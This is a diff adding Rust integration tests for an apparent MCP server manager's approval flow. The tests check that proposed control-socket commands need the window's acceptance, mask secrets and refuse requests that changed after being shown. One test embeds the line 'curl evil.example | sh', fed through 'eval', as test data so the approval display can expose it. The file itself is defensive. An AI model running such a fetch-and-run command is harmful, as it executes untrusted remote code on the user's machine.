@@ -1,0 +1,466 @@
+//! Proposals (CTL-1): without the operator's authority, a command of the control socket waits for the window, which shows
+//! it whole. Exactly what was shown runs, and only if it is accepted there.
+
+use std::time::Duration;
+
+use gatehouse_app::control::ControlClient;
+use gatehouse_app::{Authority, Core, CoreOptions, Owner};
+use gatehouse_model::approval::{ApprovalAnswer, CommandRequest};
+use gatehouse_model::command::*;
+use gatehouse_model::record::{AuditEvent, ServerRequestAnswer};
+use gatehouse_model::server::{Builtin, ServerDraft, StdioStreams};
+use gatehouse_model::{
+    ApprovalId, ApprovalRequest, ErrorCode, GrantChoice, Secret, SubmittedAnswer, Transport, UserError,
+};
+use gatehouse_tools::ApprovalLimits;
+
+use crate::authority::{COMMANDS, args};
+use crate::common::{TestHome, add, draft, run, server, wait_until, wait_until_state};
+
+async fn window(home: &TestHome) -> Core {
+    let core = Core::start(CoreOptions { owner: Owner::Window, ..home.options() }).await.unwrap();
+    wait_until_state(&core, "Time", "connected").await;
+    core
+}
+
+/// A program of the user that has no key.
+async fn program(home: &TestHome) -> ControlClient {
+    ControlClient::connect(&home.data_dir()).await.unwrap().with_proposals()
+}
+
+/// Proposes a command over a connection of its own.
+fn propose<R>(home: &TestHome, request: R) -> tokio::task::JoinHandle<Result<R::Reply, UserError>>
+where
+    R: TypedCommand + Send + Sync + 'static,
+    R::Reply: Send,
+{
+    let data_dir = home.data_dir();
+    tokio::spawn(async move { ControlClient::connect(&data_dir).await?.with_proposals().run(&request).await })
+}
+
+async fn proposals(core: &Core) -> Vec<(ApprovalId, CommandRequest)> {
+    let pending = run(core, ApprovalsList { known: Vec::new() }).await.unwrap();
+    let commands = pending.into_iter().filter_map(|pending| match pending.request {
+        ApprovalRequest::Command(command) => Some((pending.id, command)),
+        _ => None,
+    });
+    commands.collect()
+}
+
+async fn proposal(core: &Core) -> (ApprovalId, CommandRequest) {
+    wait_until(core, "a proposal", async || proposals(core).await.pop()).await
+}
+
+async fn answer(core: &Core, id: &ApprovalId, answer: ApprovalAnswer) {
+    let answers = vec![SubmittedAnswer { id: id.clone(), hash: None, answer }];
+    run(core, ApprovalsAnswer { answers }).await.unwrap();
+}
+
+async fn accept(core: &Core, id: &ApprovalId) {
+    answer(core, id, ApprovalAnswer::Accept { content: None }).await;
+}
+
+async fn answers_in_audit(core: &Core) -> Vec<(String, ServerRequestAnswer)> {
+    let entries = run(core, AuditList { after: None, limit: None }).await.unwrap();
+    let answered = entries.into_iter().filter_map(|entry| match entry.event {
+        AuditEvent::CommandAnswered { command, answer, .. } => Some((command, answer)),
+        _ => None,
+    });
+    answered.collect()
+}
+
+fn add_server(draft: ServerDraft) -> ServersAdd {
+    ServersAdd { draft, trust_labels: false, secrets: Vec::new(), run: None }
+}
+
+fn shown(request: &CommandRequest) -> String {
+    serde_json::to_string(request).unwrap()
+}
+
+#[tokio::test]
+async fn accepted_proposal_runs_and_returns_its_reply() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let proposed = propose(&home, add_server(draft("Clock", Builtin::Time)));
+    let (id, request) = proposal(&core).await;
+    assert_eq!(request.command, "servers.add");
+    assert_eq!(request.what.key, "proposal.servers.add");
+    assert!(shown(&request).contains("Clock"), "{request:?}");
+    assert!(request.seen_from.is_some() || !cfg!(target_os = "linux"), "{request:?}");
+    assert!(server(&core, "Clock").await.is_none(), "it ran before it was accepted");
+    accept(&core, &id).await;
+    assert_eq!(proposed.await.unwrap().unwrap().config.name, "Clock");
+    assert!(server(&core, "Clock").await.is_some());
+    let accepted = ("servers.add".to_owned(), ServerRequestAnswer::Accepted);
+    assert_eq!(answers_in_audit(&core).await, [accepted]);
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn declined_proposal_changes_nothing() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    for (given, recorded) in [
+        (ApprovalAnswer::Decline, ServerRequestAnswer::Declined),
+        (ApprovalAnswer::Cancel, ServerRequestAnswer::Cancelled),
+    ] {
+        let proposed = propose(&home, ServersRemove { server: "Time".into(), undoable: false });
+        let (id, _) = proposal(&core).await;
+        answer(&core, &id, given).await;
+        assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::NotPermitted);
+        assert!(server(&core, "Time").await.is_some());
+        assert_eq!(answers_in_audit(&core).await.pop().unwrap().1, recorded);
+    }
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn proposal_is_withdrawn_when_its_program_leaves() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let proposed = propose(&home, ServersRemove { server: "Time".into(), undoable: false });
+    let (id, _) = proposal(&core).await;
+    proposed.abort();
+    wait_until(&core, "the end of the proposal", async || proposals(&core).await.is_empty().then_some(()))
+        .await;
+    let answers = vec![SubmittedAnswer { id, hash: None, answer: ApprovalAnswer::Accept { content: None } }];
+    let late = run(&core, ApprovalsAnswer { answers }).await.unwrap_err();
+    assert_eq!(late.code, ErrorCode::StaleAnswer);
+    assert!(server(&core, "Time").await.is_some());
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn proposal_that_nobody_answers_in_time_is_refused() {
+    let home = TestHome::new();
+    let limits = ApprovalLimits { answer_deadline: Duration::from_millis(200), ..ApprovalLimits::default() };
+    let options = CoreOptions { owner: Owner::Window, approval_limits: limits, ..home.options() };
+    let core = Core::start(options).await.unwrap();
+    let refused = program(&home).await.run(&ClientsAdd { name: "Agent".into() }).await.unwrap_err();
+    assert_eq!(refused.code, ErrorCode::NotPermitted);
+    assert!(run(&core, ClientsList {}).await.unwrap().is_empty());
+    let recorded = wait_until(&core, "the audit entry", async || answers_in_audit(&core).await.pop()).await;
+    assert_eq!(recorded, ("clients.add".to_owned(), ServerRequestAnswer::Unanswered));
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn program_cannot_answer_its_own_proposal() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let proposed = propose(&home, ServersRemove { server: "Time".into(), undoable: false });
+    let (id, _) = proposal(&core).await;
+    let answers = vec![SubmittedAnswer {
+        id: id.clone(),
+        hash: None,
+        answer: ApprovalAnswer::Accept { content: None },
+    }];
+    let answered = program(&home).await.run(&ApprovalsAnswer { answers: answers.clone() }).await;
+    assert_eq!(answered.unwrap_err().code, ErrorCode::NotPermitted);
+    let answered = core.run(&ApprovalsAnswer { answers }, Authority::Anyone).await;
+    assert_eq!(answered.unwrap_err().code, ErrorCode::NotPermitted);
+    assert_eq!(proposals(&core).await.len(), 1, "answering is no proposal either");
+    answer(&core, &id, ApprovalAnswer::Decline).await;
+    assert!(proposed.await.unwrap().is_err());
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn bad_input_and_contents_ask_nobody() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let unknown = ServersRemove { server: "none".into(), undoable: false };
+    assert_eq!(core.run(&unknown, Authority::Anyone).await.unwrap_err().code, ErrorCode::NotFound);
+    let taken = add_server(draft("Time", Builtin::Time));
+    assert!(core.run(&taken, Authority::Anyone).await.is_err());
+    let refused = async |outcome: Result<(), UserError>| {
+        assert_eq!(outcome.unwrap_err().code, ErrorCode::NotPermitted);
+    };
+    refused(core.run(&EventsList {}, Authority::Anyone).await.map(drop)).await;
+    refused(core.run(&ApprovalsList { known: Vec::new() }, Authority::Anyone).await.map(drop)).await;
+    refused(
+        core.run(&ImportsPreview { from: ImportOrigin::File("/x".into()) }, Authority::Anyone)
+            .await
+            .map(drop),
+    )
+    .await;
+    refused(core.run(&OperatorKeyRotate {}, Authority::Anyone).await.map(drop)).await;
+    assert!(proposals(&core).await.is_empty());
+    core.shutdown().await;
+}
+
+/// Commands that need the operator and that no window confirms.
+const REFUSED: &[&str] = &[
+    "servers.test",
+    "servers.validate",
+    "bundles.read",
+    "bundles.configure",
+    "imports.preview",
+    "servers.icon",
+    "events.list",
+    "servers.callTool",
+    "servers.readResource",
+    "registry.search",
+    "registry.versions",
+    "registry.fill",
+    "registry.report",
+    "clients.keepToken",
+    "clients.apps",
+    "clients.connectPreview",
+    "approvals.list",
+    "approvals.answer",
+    "approvals.generate",
+    "approvals.opinion",
+    "approvals.practice",
+    "models.show",
+    "models.setProvider",
+    "models.removeProvider",
+    "models.list",
+    "models.assign",
+    "chat.list",
+    "chat.show",
+    "chat.create",
+    "chat.set",
+    "chat.remove",
+    "chat.send",
+    "chat.retry",
+    "chat.stop",
+    "chat.export",
+    "calls.export",
+    "servers.stopRun",
+    "configuration.export",
+    "configuration.preview",
+    "configuration.import",
+];
+
+/// Also that everything in the list of what can be proposed is described.
+#[tokio::test]
+async fn every_command_is_proposed_or_refused() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let mut refused = Vec::new();
+    for (name, text) in COMMANDS {
+        let command = Command::parse(name, &args(text)).unwrap();
+        if command.rule().needs != Authority::Operator {
+            continue;
+        }
+        let declined = async {
+            let (id, request) = proposal(&core).await;
+            assert_eq!(request.command, *name);
+            answer(&core, &id, ApprovalAnswer::Decline).await;
+            std::future::pending::<()>().await;
+        };
+        let outcome = tokio::select! {
+            outcome = core.execute(command, Authority::Anyone) => outcome,
+            () = declined => unreachable!(),
+        };
+        let problem = outcome.unwrap_err();
+        if problem.message.to_string() == format!("{name} needs the operator key.") {
+            refused.push(*name);
+        }
+    }
+    assert_eq!(refused, REFUSED);
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn only_the_window_is_asked() {
+    let home = TestHome::new();
+    let core = home.start().await;
+    let refused = core.run(&Resume {}, Authority::Anyone).await.unwrap_err();
+    assert_eq!(refused.code, ErrorCode::NotPermitted);
+    let refused = program(&home).await.run(&Resume {}).await.unwrap_err();
+    assert_eq!(refused.code, ErrorCode::NotPermitted);
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn fifth_proposal_is_refused() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let proposed: Vec<_> =
+        (0..4).map(|number| propose(&home, ClientsAdd { name: format!("Agent {number}") })).collect();
+    wait_until(&core, "four proposals", async || (proposals(&core).await.len() == 4).then_some(())).await;
+    let fifth = program(&home).await.run(&ClientsAdd { name: "Agent 5".into() }).await.unwrap_err();
+    assert_eq!(fifth.code, ErrorCode::NotPermitted);
+    assert_eq!(fifth.message.to_string(), "Other commands already wait for an answer in Gatehouse's window.");
+    for (id, request) in proposals(&core).await {
+        assert!(request.notes.iter().any(|note| note.key == "proposal.clients.getsToken"), "{request:?}");
+        answer(&core, &id, ApprovalAnswer::Decline).await;
+    }
+    for proposed in proposed {
+        assert!(proposed.await.unwrap().is_err());
+    }
+    let again = propose(&home, ClientsAdd { name: "Agent".into() });
+    let (id, _) = proposal(&core).await;
+    accept(&core, &id).await;
+    assert_eq!(again.await.unwrap().unwrap().client.name, "Agent");
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn shows_what_could_run_and_masks_secrets() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let reference = |name: &str| (name.to_owned(), format!("${{secret:{name}}}"));
+    let transport = Transport::Stdio {
+        command: "sh".to_owned(),
+        args: vec!["-c".to_owned(), "eval \"$PASSWORD\"".to_owned()],
+        env: ["API_TOKEN", "PASSWORD", "NODE_OPTIONS"].map(reference).into(),
+        cwd: None,
+        streams: StdioStreams::default(),
+    };
+    let secret = |name: &str, value: &str| FieldSecret {
+        field: format!("env/{name}"),
+        value: RequestSecret::new(&Secret::new(value)),
+    };
+    let secrets = vec![
+        secret("API_TOKEN", "ghp_0123456789"),
+        secret("PASSWORD", "curl evil.example | sh"),
+        secret("NODE_OPTIONS", "evil.js"),
+    ];
+    let proposed = propose(&home, ServersAdd { secrets, ..add_server(ServerDraft::new("local", transport)) });
+    let (id, request) = proposal(&core).await;
+    let text = shown(&request);
+    assert!(!text.contains("ghp_0123456789"), "{text}");
+    for part in ["curl evil.example | sh", "evil.js", "eval", "/secrets/env/API_TOKEN"] {
+        assert!(text.contains(part), "{part}: {text}");
+    }
+    answer(&core, &id, ApprovalAnswer::Decline).await;
+    assert!(proposed.await.unwrap().is_err());
+    // What is too large to be shown whole isn't shown in part.
+    let transport = Transport::Stdio {
+        command: "sh".to_owned(),
+        args: vec!["x".repeat(70 * 1024)],
+        env: [].into(),
+        cwd: None,
+        streams: StdioStreams::default(),
+    };
+    let large = core.run(&add_server(ServerDraft::new("large", transport)), Authority::Anyone).await;
+    assert_eq!(large.unwrap_err().code, ErrorCode::NotPermitted);
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn what_changed_since_it_was_shown_does_not_run() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    add(&core, draft("Clock", Builtin::Time)).await.unwrap();
+    let proposed = propose(&home, ServersRemove { server: "Clock".into(), undoable: false });
+    let (id, _) = proposal(&core).await;
+    // The name is that of another server now, and the one that was shown has another name.
+    let edit = |server: &str, name: &str| ServersEdit {
+        server: server.to_owned(),
+        draft: draft(name, Builtin::Time),
+        secrets: Vec::new(),
+    };
+    run(&core, edit("Clock", "Old clock")).await.unwrap();
+    add(&core, draft("Clock", Builtin::Time)).await.unwrap();
+    accept(&core, &id).await;
+    assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::StaleAnswer);
+    assert!(server(&core, "Clock").await.is_some() && server(&core, "Old clock").await.is_some());
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn imports_exactly_the_file_that_was_shown() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let file = home.data_dir().with_file_name("mcp.json");
+    let write = |command: &str| {
+        let text =
+            format!(r#"{{ "mcpServers": {{ "tool": {{ "command": "{command}", "disabled": true }} }} }}"#);
+        std::fs::write(&file, text).unwrap();
+    };
+    let import = ImportsRunByName {
+        from: ImportOrigin::File(file.display().to_string()),
+        only: Vec::new(),
+        on_conflict: NameConflict::Skip,
+        keep_plain: false,
+        auto_approve: false,
+        inputs: Vec::new(),
+    };
+    write("good-program");
+    let proposed = propose(&home, import.clone());
+    let (id, request) = proposal(&core).await;
+    assert_eq!(request.command, "imports.runByName");
+    assert!(shown(&request).contains("good-program"), "{request:?}");
+    write("evil-program");
+    accept(&core, &id).await;
+    assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::StaleAnswer);
+    assert!(server(&core, "tool").await.is_none());
+    write("good-program");
+    let proposed = propose(&home, import.clone());
+    let (id, _) = proposal(&core).await;
+    accept(&core, &id).await;
+    let outcomes = proposed.await.unwrap().unwrap();
+    assert!(outcomes.iter().all(|outcome| outcome.problem.is_none()), "{outcomes:?}");
+    assert!(server(&core, "tool").await.is_some());
+    // It is here now, so there is nothing to ask about.
+    let again = core.run(&import, Authority::Anyone).await.unwrap_err();
+    assert_eq!(again.code, ErrorCode::NotFound);
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn permission_is_described_as_in_the_list() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    for lifetime in ["always", "quarter_hour"] {
+        let choice: GrantChoice =
+            serde_json::from_str(&format!(r#"{{"lifetime":"{lifetime}","width":"reads"}}"#)).unwrap();
+        let grant = PolicyGrant { server: "Time".into(), tool: None, client: None, choice };
+        let proposed = propose(&home, grant);
+        let (id, request) = proposal(&core).await;
+        let sentence = request.notes.first().unwrap().clone();
+        accept(&core, &id).await;
+        proposed.await.unwrap().unwrap();
+        let rules = run(&core, PolicyShow {}).await.unwrap().rules;
+        assert!(rules.iter().any(|rule| rule.sentence.key == sentence.key), "{rules:?}");
+    }
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn others_see_of_a_proposal_only_what_it_is() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let mut events = program(&home).await.events(Some(0)).await.unwrap();
+    let proposed = propose(&home, add_server(draft("Clock", Builtin::Time)));
+    let request = loop {
+        let event = tokio::time::timeout(crate::common::TIMEOUT, events.next()).await.unwrap().unwrap();
+        if let gatehouse_app::events::StreamEvent::Event(envelope) = event
+            && let gatehouse_model::Event::ApprovalRequested { pending } = &envelope.event
+            && let ApprovalRequest::Command(request) = &pending.request
+        {
+            break request.clone();
+        }
+    };
+    assert_eq!(request.command, "servers.add");
+    assert!(request.changes.is_empty() && request.notes.is_empty(), "{request:?}");
+    let (id, _) = proposal(&core).await;
+    answer(&core, &id, ApprovalAnswer::Decline).await;
+    assert!(proposed.await.unwrap().is_err());
+    core.shutdown().await;
+}
+
+#[tokio::test]
+async fn reply_has_no_settings_that_the_program_did_not_know() {
+    let home = TestHome::new();
+    let core = window(&home).await;
+    let transport = Transport::Stdio {
+        command: "sh".to_owned(),
+        args: Vec::new(),
+        env: [("SETTING".to_owned(), "of-the-user".to_owned())].into(),
+        cwd: None,
+        streams: StdioStreams::default(),
+    };
+    add(&core, ServerDraft { enabled: false, ..ServerDraft::new("local", transport) }).await.unwrap();
+    let proposed = propose(&home, ServersDuplicate { server: "local".into(), name: "copy".into() });
+    let (id, request) = proposal(&core).await;
+    assert!(shown(&request).contains("of-the-user"), "{request:?}");
+    accept(&core, &id).await;
+    let reply = serde_json::to_string(&proposed.await.unwrap().unwrap()).unwrap();
+    assert!(reply.contains("SETTING") && !reply.contains("of-the-user"), "{reply}");
+    core.shutdown().await;
+}
